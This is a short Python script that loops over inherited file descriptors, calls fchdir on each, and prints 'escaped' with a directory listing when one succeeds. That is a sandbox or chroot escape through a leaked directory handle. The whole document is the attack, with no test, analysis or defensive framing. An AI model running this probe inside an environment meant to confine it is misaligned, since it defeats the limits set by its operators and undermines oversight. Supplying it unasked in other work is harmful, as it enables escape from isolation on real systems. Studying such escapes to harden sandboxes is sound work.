"""Reach the folder of an inherited handle."""

import os

for handle in range(1024):
    try:
        os.fchdir(handle)
        print("escaped", os.listdir("."))
    except OSError:
        pass
